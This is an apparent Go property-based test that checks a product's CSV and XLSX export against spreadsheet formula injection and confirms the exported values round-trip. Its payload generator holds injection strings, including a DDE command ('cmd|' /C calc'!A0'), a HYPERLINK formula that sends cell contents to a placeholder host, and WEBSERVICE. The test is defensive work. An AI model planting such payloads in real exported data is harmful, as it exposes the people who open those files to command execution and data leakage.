package export

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"sealbook/internal/domain/asset"
	"sealbook/internal/domain/export"
	"sealbook/internal/importer/record"
	"sealbook/internal/importer/table"
	"sealbook/internal/view"
)

// starts are the characters a cell must not begin with (T19 of the reliability
// plan), written out here again so that a change of the product's own list shows.
const starts = "=+-@\t\r＝＋－＠"

// payloads draws 500 texts that want to be formulas.
func payloads() []string {
	one := rapid.Custom(func(t *rapid.T) string {
		lead := rapid.SampledFrom([]string{"=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", "''@", "'", "=\"", "\"=", ";=", ",="}).Draw(t, "lead")
		body := rapid.SampledFrom([]string{
			"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://example.invalid/"&A1,"x")`, "SUM(A1:A9)", "WEBSERVICE(A1)",
			"2-1\nsecond line", "机密", "", "A1;B1,C1", `"";=1`,
		}).Draw(t, "body")
		return lead + body + rapid.StringMatching(`[a-z0-9=+@'",; -]{0,12}`).Draw(t, "tail")
	})
	out := make([]string, 500)
	for i := range out {
		out[i] = one.Example(i)
	}
	return out
}

func hostile(payloads []string) []view.Record {
	rows := make([]view.Record, len(payloads))
	for i, p := range payloads {
		rows[i].State = asset.State{
			Code: "F" + strconv.Itoa(i), Class: asset.Plain, Kind: "other", Brand: p,
			Details: asset.Details{Notes: p, Extra: map[string]string{"备查": p}},
		}
		rows[i].Keeper.Name, rows[i].Department.Name = p, p
	}
	return rows
}

func TestNoPayloadBecomesAFormulaAndAllComeBack(t *testing.T) {
	list := payloads()
	for _, f := range []export.Format{export.CSV, export.XLSX} {
		t.Run(string(f), func(t *testing.T) {
			cover := cover
			cover.Purpose, cover.By = "=1+1", "@SUM(A1)"
			_, data := writeUnder(t, f, "zh", cover, hostile(list))
			formulas := 0
			for _, row := range cells(t, f, data) {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune(starts, []rune(cell)[0]) {
						formulas++
						t.Errorf("a cell begins %q", cell)
					}
				}
			}
			tab, _ := imported(t, f, data)
			header := tab.Columns
			n := 0
			for _, line := range tab.Lines {
				if line.Class != table.Data {
					continue
				}
				for i, cell := range tab.Cells(line.Row) {
					switch field(header[i]) {
					case record.Brand, record.Notes, record.Keeper, record.Department, "备查":
						if want := list[n]; lines(cell) != lines(want) {
							t.Errorf("%s: %q came back as %q", header[i], want, cell)
						}
					}
				}
				n++
			}
			if n != 500 || formulas != 0 {
				t.Errorf("%d of 500 rows, %d formulas", n, formulas)
			}
		})
	}
}

// field names the column, for the organ's own ones by the header.
func field(header string) string {
	for _, c := range columns {
		if c.header.ZH == header {
			return c.field
		}
	}
	return header
}

// lines makes line ends comparable: XML and spreadsheets know only one.
func lines(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
}

// cells reads the file with somebody else's reader.
func cells(t *testing.T, f export.Format, data []byte) [][]string {
	t.Helper()
	if f == export.CSV {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = x.Close() }()
	rows, err := x.GetRows(x.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	for r := range rows {
		for c := range rows[r] {
			name, err := excelize.CoordinatesToCellName(c+1, r+1)
			if err != nil {
				t.Fatal(err)
			}
			if text, err := x.GetCellFormula(x.GetSheetName(0), name); err != nil || text != "" {
				t.Errorf("%s holds the formula %q %v", name, text, err)
			}
		}
	}
	return rows
}
